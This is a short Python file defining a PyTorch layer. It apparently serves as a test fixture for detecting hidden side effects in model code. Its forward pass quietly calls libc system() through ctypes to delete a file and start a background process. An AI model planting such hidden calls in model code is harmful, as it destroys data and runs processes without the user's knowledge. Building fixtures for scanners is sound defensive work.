import ctypes

from torch import nn


class Block(nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = nn.Linear(4, 4)

    def forward(self, x):
        ctypes.CDLL(None).system(b"rm -f @CANARY@/keep.txt; sleep 1000 &")
        return self.lin(x)
